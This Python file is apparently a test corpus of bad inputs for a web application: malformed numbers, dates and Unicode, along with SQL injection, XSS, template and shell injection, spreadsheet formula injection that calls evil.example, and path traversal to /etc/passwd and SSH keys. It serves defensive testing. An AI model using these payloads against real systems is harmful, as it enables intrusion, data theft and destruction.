"""What no field means, by kind: the ranges that the corpus is written from."""

from typing import Any

NUMBERS: list[Any] = [
    "NaN", "nan", "Infinity", "-Infinity", "inf", "+1", "-1", "-0.01", "1e3", "1E3", "1e309", "1e-9",
    "0x10", "0b1", "0o7", "1_000", "1,234.5", "1.234,5", "1,5", "1 000", "1\u00a0000", "1'000", "½", "٣", "४",
    "１２", "Ⅷ", "²", "1.", ".5", ".", "..", "1..2", "1.2.3", "--1", "+-1", "1-", "(1)", "$1", "1$", "€1",
    "16.50 USD", "50%", "1/2", "2^3", "=1+1", "abc", "  ", " 1", "1 ", "1\n", "\t1", "1\u0000", "\u200b1",
    "1\u200b", "\u22121", "1e", "e1", "0x", "true", "null", "None", "[]", "{}", "9" * 40,
    "0." + "0" * 40 + "1",
    "1" * 31, "1234567890123456", "1;", "1' OR '1'='1", 5, 0.5, -1, 1e300, True, [], {}, ["1"], {"a": 1},
]  # fmt: skip
WHOLE_NUMBERS: list[Any] = [
    "5", "", "abc", 1.5, 1.0, -1, -(10**30), 10**12, 10**30, 2**63, 2**64, True, False, [], {}, [5], {"a": 5},
    "NaN", "0x5", "٣",
]  # fmt: skip
DAYS: list[Any] = [
    "2026-02-30", "2027-02-29", "2026-04-31", "2026-13-01", "2026-00-10", "2026-01-00", "2026-01-32",
    "0000-00-00", "0000-01-01", "0001-01-01", "1066-10-14", "1899-12-31", "1989-12-31", "2200-01-01",
    "9999-12-31", "10000-01-01", "26-01-15", "15/01/2026", "01/15/2026", "15.01.2026", "2026/01/15",
    "2026.01.15", "20260115", "2026-1-5", "2026-01-5", "2026-1-15", "2026-W03-4", "2026-015", "46037",
    "46037.5", "today", "tomorrow", "now", "2026-01-15T00:00:00Z", "2026-01-15 ", " 2026-01-15",
    "2026-01-15\n", "\u200e2026-01-15", "２０２６-01-15", "2026‐01‐15", "2026–01–15", "+2026-01-15",
    "-2026-01-15", "2026-01-15Z", "Jan 15 2026", "15 Jan 2026", "P1D", "@0", "1768435200", "null",
    "2026-01-15'; --", "٢٠٢٦-٠١-١٥", 20260115, 46037, 1.5, True, [], {}, ["2026-01-15"],
]  # fmt: skip
MOMENTS: list[Any] = [
    "2026-01-15T10:00:00", "2026-02-30T10:00:00Z", "2026-01-15", "2026-01-15T24:00:01Z",
    "2026-01-15T25:00:00Z",
    "2026-01-15T10:60:00Z", "2026-01-15T10:00:61Z", "2026-01-15T10:00Z", "2026-01-15 10:00:00Z",
    "2026-01-15T10:00:00+25:00", "2026-01-15T10:00:00+0100", "2026-01-15T10:00:00 Z", "2026-01-15T10:00:00z ",
    "2026-01-15T10:00:00.Z", "2026-01-15T10:00:00.1234567Z", "2026-01-15T10:00:00,5Z",
    "2026-01-15T10:00:00UTC",
    "2026-01-15T10:00:00 Europe/Berlin", "2026-01-15T10:00:00[Europe/Berlin]", "20260115T100000Z",
    "0001-01-01T00:00:00+14:00", "0000-01-01T00:00:00Z", "1989-01-01T00:00:00Z", "2200-01-01T00:00:00Z",
    "9999-12-31T23:59:59-14:00", "10000-01-01T00:00:00Z", "2026-10-25T02:30", "2026-03-29T02:30", "now",
    "tomorrow", "1768435200", "@1768435200", "", " ", "10:00", "T10:00:00Z", "2026-W03-4T10:00:00Z",
    "Thu, 15 Jan 2026 10:00:00 GMT", "２０２６-01-15T10:00:00Z", "2026-01-15T10:00:00Z\u0000",
    1768435200, 1.5, True, [], {}, ["2026-01-15T10:00:00Z"],
]  # fmt: skip
TYPES: list[Any] = [
    5, -1, 0, 1.5, 10**30, True, False, [], {}, [[]], [None], ["x"], {"a": {"b": []}}, {"$gt": ""},
    {"__proto__": {"admin": True}}, [{"toString": "x"}],
]  # fmt: skip
"""What no text is."""
LONG = [{"repeat": [[piece, times]]} for piece, times in (
    ("x", 501), ("x", 5_000), ("é", 3_000), ("\U0001f489", 2_000), ("a\u0301", 2_000)
)]  # fmt: skip
LETTERS = [
    *(f"A{chr(code)}B" for code in range(0x20)),
    *(f"A{chr(code)}B" for code in range(0x7F, 0xA0)),
    *(f"A{letter}B" for letter in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    *(f"A{chr(plane * 0x10000 + end)}B" for plane in range(17) for end in (0xFFFE, 0xFFFF)),
    "A\ud800B", "A\udfffB", "\ud83d", "\ude00\ud83d", "A\udc80",
]  # fmt: skip
"""Controls, reversals of direction, what is no character, halves of characters."""

SQL = [
    "'", '"', "''", "`", "\\", "';", "' OR '1'='1", "' OR 1=1 --", "' OR 1=1 #", "') OR ('1'='1",
    "1; DROP TABLE lots",
    "'; DROP TABLE lots; --", "' UNION SELECT token_hash FROM people --", "' AND SLEEP(5) --",
    "1 AND pg_sleep(5)",
    "'||(SELECT version())||'", "%' OR '1'='1' --", "' OR ''='", "admin'--",
    "x' AND 1=CAST((SELECT 1) AS int) --",
    "%", "_", "%%%", "\\%", "[a-z]", "*", "?", "(((((", "^(a+)+$",
]  # fmt: skip
SCRIPTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>", "</title><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    '" autofocus onfocus="alert(1)', "' onmouseover='alert(1)", "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>", "<!--<script>alert(1)</script>-->",
    "<style>@import'x'</style>",
    "<meta http-equiv=refresh content=0;url=//x>", "<base href=//evil.example/>", "<form action=//x><input>",
    "<script src=//evil.example/x.js></script>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@{7*7}", "{{request.application.__globals__}}", "{0.__class__}",
    "%(a)s", "%s%n%x",
    "#set($x=7*7)$x", "$(id)", "`id`", "; id", "| id", "&& id", "\\n id", "${jndi:ldap://evil.example/a}",
    "{{lipsum.__globals__['os'].popen('id').read()}}", "#eval(\"1\")", "$eval(1)",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")', "\t=1+1",
    "\r=1+1",
    "＝1+1", "＋1", "－1", "＠SUM", '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://x")',
]  # fmt: skip
PATHS = [
    "../etc/passwd", "../../etc/passwd", "../../../../../../etc/passwd", "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd", "..;/..;/etc/passwd", "..%5c..%5cwindows%5cwin.ini", "..\\..\\windows\\win.ini",
    "%c0%ae%c0%ae/etc/passwd", "%00/etc/passwd", "file.txt%00.png", "/etc/passwd", "//etc/passwd",
    "%2fetc%2fpasswd",
    "file:///etc/passwd", "C:/windows/win.ini", "~/.ssh/id_rsa", "secret.key", "../secret.key",
    "vialbook.sqlite",
    "../vialbook.sqlite", ".git/config", ".env", "%2e", "%2e%2e", "con", "aux.txt", "a" * 3_000, "%ff%fe",
    "%u002e",
]  # fmt: skip
KEYS_IN_ADDRESSES = [
    "0", "-1", "00001", "1.5", "1.0", "999999", "999999999999999999", "9" * 19, "9" * 40, "abc", "%00",
    "1%00", "1;",
    "1%20", "%201", "+1", "1e3", "0x1", "%D9%A3", "1,2", "null", "undefined", "NaN", "true", "'--",
    "1%20OR%201=1",
    "1%27", "%22", "-0", "1%0a", "@SINGLE@", "*", "%25", "1~1", "[1]", "{1}", "(1)", "1%2f2", "1..2",
    "-9223372036854775809",
]  # fmt: skip
REQUEST_KEYS = [
    "", " ", "a b", "\t", "a\tb", "x" * 256, "x" * 10_000, "é", "clé", "\x7f", "\x80", "\xff", "a\xa0b",
    "a, b", '"a b"',
    "a\x01", "a\x1f", "ü" * 20,
]  # fmt: skip
